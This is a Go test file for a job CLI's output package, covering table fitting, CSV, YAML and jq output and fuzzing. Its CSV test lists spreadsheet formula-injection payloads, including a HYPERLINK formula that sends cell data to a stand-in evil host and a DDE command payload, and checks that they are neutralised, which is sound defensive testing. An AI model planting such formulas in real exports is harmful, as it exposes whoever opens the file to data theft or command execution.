package output

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/goccy/go-yaml"
	"github.com/stretchr/testify/require"

	"github.com/jobagent/jobagent/cmd/jobagent/internal/terminal"
)

// row is a row of the lists in the tests.
type row struct {
	ID      string     `json:"run_id"`
	Name    string     `json:"job_name"`
	State   string     `json:"lifecycle"`
	Targets int        `json:"targets"`
	At      *time.Time `json:"create_time,omitempty"`
	Note    string     `json:"note,omitempty"`
	Tags    []string   `json:"tags"`
}

var rowColumns = Columns([]Column[row]{
	{Name: "run_id", Header: "RUN", ID: true, GUID: true, Keep: true},
	{Name: "job_name", Header: "JOB", Min: 10, Keep: true},
	{Name: "lifecycle", State: true},
	{Name: "targets"},
	{Name: "create_time", Header: "CREATED", Wide: true},
	{Name: "note", Header: "MESSAGE", Min: 12, Rest: true},
})

func at(s string) *time.Time {
	t, err := time.Parse(time.RFC3339, s)
	if err != nil {
		panic(err)
	}
	return &t
}

var testRows = []row{
	{ID: "6f1d2c0e-55a4-4b8e-9d3f-7c1e0a2b4d68", Name: "nightly index of all tenants", State: "Succeeded", Targets: 9, At: at("2026-01-31T22:00:00Z"), Note: "Job execution succeeded on all targets."},
	{ID: "7f1d2c0e-55a4-4b8e-9d3f-7c1e0a2b4d68", Name: "日本語のジョブ名です", State: "Failed", Targets: 1000, Note: "line 1\nline \u202e2 👨‍👩‍👧‍👦", Tags: []string{"a", "b"}},
}

func render(rows []row, o ListOptions, f Format, width int) string {
	var b strings.Builder
	if err := gridOf(rows, rowColumns, o, f).write(&b, width, terminal.Painter{Plain: true}); err != nil {
		panic(err)
	}
	return b.String()
}

func TestTableFitsTheTerminal(t *testing.T) {
	t.Parallel()
	for _, test := range []struct {
		name   string
		o      ListOptions
		format Format
		width  int
		want   string
	}{
		{"pipe", ListOptions{}, FormatTable, 0, `
RUN                                   JOB                           LIFECYCLE  TARGETS  MESSAGE
6f1d2c0e-55a4-4b8e-9d3f-7c1e0a2b4d68  nightly index of all tenants  Succeeded        9  Job execution succeeded on all targets.
7f1d2c0e-55a4-4b8e-9d3f-7c1e0a2b4d68  日本語のジョブ名です          Failed        1000  line 1 | line \u202e2 👨‍👩‍👧‍👦
`},
		{"140", ListOptions{}, FormatTable, 140, `
RUN                                   JOB                           LIFECYCLE  TARGETS  MESSAGE
6f1d2c0e-55a4-4b8e-9d3f-7c1e0a2b4d68  nightly index of all tenants  Succeeded        9  Job execution succeeded on all targets.
7f1d2c0e-55a4-4b8e-9d3f-7c1e0a2b4d68  日本語のジョブ名です          Failed        1000  line 1 | line \u202e2 👨‍👩‍👧‍👦
`},
		{"80", ListOptions{}, FormatTable, 80, `
RUN       JOB                           LIFECYCLE  TARGETS  MESSAGE
6f1d2c0e  nightly index of all tenants  Succeeded        9  Job execution succe…
7f1d2c0e  日本語のジョブ名です          Failed        1000  line 1 | line \u202…
`},
		{"40", ListOptions{}, FormatTable, 40, `
RUN       JOB         LIFECYCLE  TARGETS
6f1d2c0e  nightly i…  Succeeded        9
7f1d2c0e  日本語の…   Failed        1000
`},
		{"wide", ListOptions{Columns: []string{"CREATED", "tags", "job-name"}}, FormatWide, 0, `
CREATED              TAGS  JOB
2026-01-31 22:00:00        nightly index of all tenants
                     a, b  日本語のジョブ名です
`},
		{"no headers", ListOptions{Columns: []string{"lifecycle"}, NoHeaders: true}, FormatTable, 80, "\nSucceeded\nFailed\n"},
		{"tiny", ListOptions{}, FormatTable, 5, "\nRUN\n6f1d…\n7f1d…\n"},
	} {
		got := render(testRows, test.o, test.format, test.width)
		if test.width == 5 { // only that it fits
			for line := range strings.Lines(got) {
				require.LessOrEqual(t, terminal.Width(strings.TrimSuffix(line, "\n")), 5)
			}
			continue
		}
		require.Equal(t, strings.TrimPrefix(test.want, "\n"), got, test.name)
	}
}

// Where a row does not fit, columns without a text are left out before another one is cut.
func TestTableLeavesOutEmptyColumns(t *testing.T) {
	t.Parallel()
	require.Equal(t, `RUN                                   JOB  LIFECYCLE  TARGETS
6f1d2c0e-55a4-4b8e-9d3f-7c1e0a2b4d68  a    Failed           0
`, render([]row{{ID: testRows[0].ID, Name: "a", State: "Failed"}}, ListOptions{}, FormatTable, 65))
}

func TestTableWraps(t *testing.T) {
	t.Parallel()
	g := &grid{columns: []gridColumn{{header: "STEP"}, {header: "MESSAGE", rest: true, wrap: true}}, rows: [][]string{{"1", "one two three four five six seven"}}}
	var b strings.Builder
	require.NoError(t, g.write(&b, 26, terminal.Painter{Plain: true}))
	require.Equal(t, "STEP  MESSAGE\n1     one two three four\n      five six seven\n", b.String())
}

// list prints rows in a format.
func list(t *testing.T, p *Printer, rows []row) string {
	t.Helper()
	var b bytes.Buffer
	p.Stdout = &b
	require.NoError(t, List(p, rows, rowColumns))
	return b.String()
}

func TestListFormats(t *testing.T) {
	t.Parallel()
	require.Equal(t, "run_id,job_name,lifecycle,targets,create_time,note,tags\r\n"+
		"6f1d2c0e-55a4-4b8e-9d3f-7c1e0a2b4d68,nightly index of all tenants,Succeeded,9,2026-01-31 22:00:00,Job execution succeeded on all targets.,\r\n"+
		"7f1d2c0e-55a4-4b8e-9d3f-7c1e0a2b4d68,日本語のジョブ名です,Failed,1000,,\"line 1\nline \u202e2 👨‍👩‍👧‍👦\",\"[\"\"a\"\",\"\"b\"\"]\"\r\n",
		list(t, &Printer{Format: FormatCSV}, testRows))
	require.Equal(t, "6f1d2c0e-55a4-4b8e-9d3f-7c1e0a2b4d68\n7f1d2c0e-55a4-4b8e-9d3f-7c1e0a2b4d68\n", list(t, &Printer{Format: FormatName}, testRows))
	require.Equal(t, "1000\r\n9\r\n", list(t, &Printer{Format: FormatCSV, List: ListOptions{Sort: "-targets", Columns: []string{"targets"}, NoHeaders: true}}, testRows))
	require.Equal(t, "Failed\r\nSucceeded\r\n", list(t, &Printer{Format: FormatCSV, List: ListOptions{Sort: "created", Columns: []string{"lifecycle"}, NoHeaders: true}}, testRows))
	require.Equal(t, `- run_id: 6f1d2c0e-55a4-4b8e-9d3f-7c1e0a2b4d68
  job_name: nightly index of all tenants
  lifecycle: Succeeded
  targets: 9
  create_time: "2026-01-31T22:00:00Z"
  note: Job execution succeeded on all targets.
  tags: null
`, list(t, &Printer{Format: FormatYAML}, testRows[:1]))
	require.Equal(t, "[]\n", list(t, &Printer{Format: FormatYAML}, []row{}))
	p := &Printer{}
	require.NoError(t, p.Query.Set(`.[] | .job_name, .targets, .tags`))
	require.Equal(t, "nightly index of all tenants\n9\nnull\n日本語のジョブ名です\n1000\n[\"a\",\"b\"]\n", list(t, p, testRows))
}

func TestListRefusals(t *testing.T) {
	t.Parallel()
	require.ErrorContains(t, rowColumns.Check(ListOptions{Columns: []string{"target"}}, FormatTable),
		`--columns: no column "target"; did you mean targets? The columns are: run_id, job_name, lifecycle, targets, create_time, note, tags`)
	require.ErrorContains(t, rowColumns.Check(ListOptions{Sort: "-xyzzyplugh"}, FormatJSON), `--sort: no column "xyzzyplugh". The columns are`)
	require.ErrorContains(t, rowColumns.Check(ListOptions{Columns: []string{"run_id"}}, FormatJSON), "--jq")
	var q Query
	require.ErrorContains(t, q.Set(".["), "invalid jq filter")
	require.ErrorContains(t, q.Set("$x"), "invalid jq filter")
	require.NoError(t, q.Set("last(range(infinite))"))
	ctx, cancel := context.WithTimeout(t.Context(), 10*time.Millisecond)
	defer cancel()
	require.ErrorIs(t, q.write(ctx, &bytes.Buffer{}, 1, false), context.DeadlineExceeded)
	require.NoError(t, q.Set(`error("no")`))
	require.ErrorContains(t, q.write(t.Context(), &bytes.Buffer{}, 1, false), "--jq: error: no")
}

// A hundred thousand rows take less than a second: the time is measured by BenchmarkTable.
func BenchmarkTable(b *testing.B) {
	rows := make([]row, 100_000)
	for i := range rows {
		rows[i] = testRows[i%2]
	}
	for _, width := range []int{0, 80} {
		b.Run(fmt.Sprint(width), func(b *testing.B) {
			for b.Loop() {
				render(rows, ListOptions{}, FormatTable, width)
			}
		})
	}
}

// No line of a table is wider than the terminal, whatever the texts are.
func FuzzTable(f *testing.F) {
	f.Add("nightly", "日本語\x1b[31m", "👨‍👩‍👧‍👦 \u202e e\u0301❤️", uint8(20))
	f.Add("", "\xff\xfe", strings.Repeat("🇩🇪", 40), uint8(1))
	f.Fuzz(func(t *testing.T, a, b, c string, width uint8) {
		w := int(width)
		if w == 0 {
			w = 1
		}
		rows := []row{{ID: "6f1d2c0e-55a4-4b8e-9d3f-7c1e0a2b4d68", Name: a, State: b, Note: c}, {ID: b, Name: c, State: a, Note: a}}
		check := func(text string) {
			for line := range strings.SplitSeq(strings.TrimSuffix(text, "\n"), "\n") {
				require.LessOrEqual(t, terminal.Width(line), w, "%q", line)
				require.Equal(t, terminal.Clean(line), line)
			}
		}
		check(render(rows, ListOptions{}, FormatTable, w))
		g := &grid{columns: []gridColumn{{header: "A", min: 4}, {header: "B", rest: true, wrap: true}}, rows: [][]string{{cleanCell(a), cleanCell(c)}}}
		var out strings.Builder
		require.NoError(t, g.write(&out, w, terminal.Painter{Plain: true}))
		check(out.String())
	})
}

// No value is a formula for a spreadsheet. Numbers stay numbers.
func TestCSVHasNoFormulas(t *testing.T) {
	t.Parallel()
	for _, text := range []string{
		`=HYPERLINK("http://evil.example"&A1)`, "=cmd|' /C calc'!A0", "+1+1", "-1+1", "-cmd|x", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "  =1", "＝1", "-", "+", "--1", "-1e", "=",
		"+1\n=2",
	} {
		var out bytes.Buffer
		require.NoError(t, writeCSV(&out, []row{{ID: text, Name: text, Targets: -3}}, rowColumns, ListOptions{NoHeaders: true}))
		record, err := csv.NewReader(&out).Read()
		require.NoError(t, err)
		require.Equal(t, []string{"'" + text, "'" + text, "", "-3"}, record[:4], "%q", text)
	}
	for _, text := range []string{"", "a", "1", "-1", "+1", "-1.5", "-1e5", "-1,5", "a=b", "'=1", "2026-01-31T22:00:00Z", "{}", "é"} {
		require.Equal(t, text, inert(text))
	}
}

// A reader of CSV gets the values back.
func FuzzCSV(f *testing.F) {
	f.Add("a", "b\"c", "d,e\nf")
	f.Add("", " ", "=1+1")
	f.Fuzz(func(t *testing.T, a, b, c string) {
		want := []string{a, b, c}
		for i := range want { // encoding/csv reads CR LF within a value as LF
			want[i] = strings.ReplaceAll(strings.ToValidUTF8(want[i], "�"), "\r\n", "\n")
		}
		var out bytes.Buffer
		w := newCSV(&out)
		w.write(want)
		w.write(want[:1])
		require.NoError(t, w.flush())
		r := csv.NewReader(&out)
		r.FieldsPerRecord = -1
		got, err := r.ReadAll()
		require.NoError(t, err)
		require.Equal(t, [][]string{want, want[:1]}, got)
	})
}

// YAML has the JSON value.
func FuzzYAML(f *testing.F) {
	f.Add("a: b", "2026-01-31T22:00:00Z", "\n x \n")
	f.Add("yes", "~", "#- &*!|>'\"%@`{}[]")
	f.Fuzz(func(t *testing.T, a, b, c string) {
		a, b, c = strings.ToValidUTF8(a, "�"), strings.ToValidUTF8(b, "�"), strings.ToValidUTF8(c, "�")
		want := map[string]any{"a": a, "b": []any{b, map[string]any{"c": c, "k" + c: uint64(7)}}, "d": 1.5, "e": nil}
		var out bytes.Buffer
		require.NoError(t, WriteYAML(&out, want))
		var got map[string]any
		require.NoError(t, yaml.Unmarshal(out.Bytes(), &got), out.String())
		x, err := json.Marshal(want)
		require.NoError(t, err)
		y, err := json.Marshal(got)
		require.NoError(t, err)
		require.JSONEq(t, string(x), string(y), out.String())
	})
}
